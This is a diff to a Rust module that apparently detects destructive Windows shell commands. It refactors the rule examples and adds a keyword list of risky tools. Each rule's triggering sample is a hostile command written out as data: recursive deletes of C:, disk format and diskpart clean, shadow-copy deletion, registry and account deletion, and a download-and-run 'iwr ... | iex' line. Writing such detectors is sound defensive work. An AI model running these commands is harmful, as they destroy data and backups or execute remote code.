@@ -2,22 +2,27 @@
 //!
 //! Names and options are read whatever their case. A backslash is a path's, not an escape.
 
-use std::ops::Range;
-
 use memchr::{memchr, memrchr};
 
-use crate::detect::shell::{decode, lexer::Word, prose};
+use super::{Example, example};
+use crate::detect::shell::{Report, decode, lexer::Word, prose};
+
+/// Words of which every text contains one that breaks a rule.
+pub(super) const WORDS: &[&str] = &[
+    "rd ", "rmdir ", "del ", "erase ", "format ", "remove-", "ri -", "ri ", "rm -", "clear-disk", "format-volume",
+    "initialize-disk", "diskpart", "vssadmin", "wmic ", "wbadmin ", "bcdedit ", "fsutil ", "wevtutil ", "cipher ", "sdelete",
+    "reg delete", "reg.exe", "stop-computer", "restart-computer", "shutdown ", "net user", "net localgroup", "schtasks ",
+    "sc delete", "iex", "invoke-expression", " -e ", " -en",
+];
 
 /// A rule about one command.
-struct CommandRule {
-    id: &'static str,
+pub(super) struct CommandRule {
+    pub(super) id: &'static str,
     /// The programs it is about, in lower case.
     programs: &'static [&'static str],
     matches: fn(&Run<'_>) -> bool,
-    #[cfg_attr(not(test), expect(dead_code, reason = "read by the test of all examples"))]
-    hits: &'static str,
-    #[cfg_attr(not(test), expect(dead_code, reason = "read by the test of all examples"))]
-    leaves: &'static str,
+    #[cfg_attr(not(test), expect(dead_code, reason = "documents the rule, and is read by the test of all examples"))]
+    pub(super) example: Example,
 }
 
 /// A command with its arguments in lower case.
@@ -71,13 +76,12 @@ fn is_drive(arg: &str) -> bool {
     matches!(arg.as_bytes(), [letter, b':'] | [letter, b':', b'\\' | b'/'] if letter.is_ascii_alphabetic())
 }
 
-const RULES: &[CommandRule] = &[
+pub(super) const RULES: &[CommandRule] = &[
     CommandRule {
         id: "cmd-remove-tree",
         programs: &["rd", "rmdir"],
         matches: |run| run.switch('s') && run.targets().next().is_some() && !run.is_temporary(),
-        hits: "cmd /c rd /s /q C:\\data",
-        leaves: "rd /s /q %TEMP%\\build",
+        example: example("cmd /c rd /s /q C:\\data", "rd /s /q %TEMP%\\build"),
     },
     CommandRule {
         id: "cmd-delete-tree",
@@ -86,15 +90,13 @@ const RULES: &[CommandRule] = &[
             let all = || run.targets().any(|target| target.ends_with("\\*") || target.ends_with("*.*") || target == "*");
             (run.switch('s') || (run.switch('q') || run.switch('f')) && all()) && run.targets().next().is_some() && !run.is_temporary()
         },
-        hits: "del /f /s /q C:\\*",
-        leaves: "del /q build.log",
+        example: example("del /f /s /q C:\\*", "del /q build.log"),
     },
     CommandRule {
         id: "cmd-format",
         programs: &["format", "format.com"],
         matches: |run| run.args.first().is_some_and(|arg| is_drive(arg)),
-        hits: "echo y | format D: /q",
-        leaves: "npm run format",
+        example: example("echo y | format D: /q", "npm run format"),
     },
     CommandRule {
         id: "powershell-remove-tree",
@@ -103,22 +105,19 @@ const RULES: &[CommandRule] = &[
             let recurses = run.parameter("recurse", 1) || run.is_piped;
             recurses && run.parameter("force", 2) && !run.parameter("whatif", 2) && !run.is_temporary()
         },
-        hits: "Remove-Item -Recurse -Force C:\\data",
-        leaves: "Remove-Item -Recurse -Force C:\\data -WhatIf",
+        example: example("Remove-Item -Recurse -Force C:\\data", "Remove-Item -Recurse -Force C:\\data -WhatIf"),
     },
     CommandRule {
         id: "powershell-wipe-disk",
         programs: &["clear-disk", "format-volume", "initialize-disk", "remove-partition", "remove-volume", "remove-virtualdisk", "remove-storagepool"],
         matches: |run| !run.args.is_empty() && !run.parameter("whatif", 2),
-        hits: "Clear-Disk -Number 1 -RemoveData",
-        leaves: "Get-Disk -Number 1",
+        example: example("Clear-Disk -Number 1 -RemoveData", "Get-Disk -Number 1"),
     },
     CommandRule {
         id: "windows-diskpart",
         programs: &["diskpart"],
         matches: |run| run.is_piped || run.switch('s'),
-        hits: "(echo select disk 0 & echo clean) | diskpart",
-        leaves: "Get-Partition | Format-Table",
+        example: example("(echo select disk 0 & echo clean) | diskpart", "Get-Partition | Format-Table"),
     },
     CommandRule {
         id: "windows-delete-backups",
@@ -131,8 +130,7 @@ const RULES: &[CommandRule] = &[
             "fsutil" => run.starts_with(&["usn", "deletejournal"]),
             _ => run.has("cl") || run.has("clear-log"),
         },
-        hits: "vssadmin delete shadows /all /quiet",
-        leaves: "vssadmin list shadows",
+        example: example("vssadmin delete shadows /all /quiet", "vssadmin list shadows"),
     },
     CommandRule {
         id: "windows-wipe-free-space",
@@ -141,22 +139,19 @@ const RULES: &[CommandRule] = &[
             "cipher" => run.args.iter().any(|arg| arg.starts_with("/w")),
             _ => run.targets().next().is_some(),
         },
-        hits: "cipher /w:C",
-        leaves: "cipher /c notes.txt",
+        example: example("cipher /w:C", "cipher /c notes.txt"),
     },
     CommandRule {
         id: "windows-delete-registry",
         programs: &["reg", "remove-itemproperty"],
         matches: |run| run.name == "reg" && run.starts_with(&["delete"]),
-        hits: "reg delete HKLM\\Software\\App /f",
-        leaves: "reg query HKLM\\Software\\App",
+        example: example("reg delete HKLM\\Software\\App /f", "reg query HKLM\\Software\\App"),
     },
     CommandRule {
         id: "windows-stop-machine",
         programs: &["stop-computer", "restart-computer", "shutdown"],
         matches: |run| run.name != "shutdown" || run.switch('s') || run.switch('r') || run.switch('p'),
-        hits: "shutdown /s /t 0",
-        leaves: "shutdown /a",
+        example: example("shutdown /s /t 0", "shutdown /a"),
     },
     CommandRule {
         id: "windows-delete-account",
@@ -167,8 +162,7 @@ const RULES: &[CommandRule] = &[
             "sc" => run.starts_with(&["delete"]),
             _ => !run.args.is_empty() && !run.parameter("whatif", 2),
         },
-        hits: "net user ann /delete",
-        leaves: "net user ann",
+        example: example("net user ann /delete", "net user ann"),
     },
     CommandRule {
         id: "remote-to-powershell",
@@ -179,8 +173,7 @@ const RULES: &[CommandRule] = &[
             };
             run.args.iter().any(fetches)
         },
-        hits: "iwr -useb https://x.example/i.ps1 | iex",
-        leaves: "iwr -useb https://x.example/i.ps1 -OutFile i.ps1",
+        example: example("iwr -useb https://x.example/i.ps1 | iex", "iwr -useb https://x.example/i.ps1 -OutFile i.ps1"),
     },
 ];
 
@@ -188,11 +181,11 @@ const RULES: &[CommandRule] = &[
 const DEEPEST: usize = 4;
 
 /// Calls `each` with the rules that a text breaks as commands of Windows, and where.
-pub(super) fn commands(text: &str, each: &mut dyn FnMut(&'static str, Range<usize>)) {
+pub(super) fn commands(text: &str, each: Report<'_>) {
     judge(text, 0, &mut |rule, range| each(rule, range));
 }
 
-fn judge(text: &str, depth: usize, each: &mut dyn FnMut(&'static str, Range<usize>)) {
+fn judge(text: &str, depth: usize, each: Report<'_>) {
     let mut fetched = false;
     for command in split(text) {
         let words = command.words.as_slice();
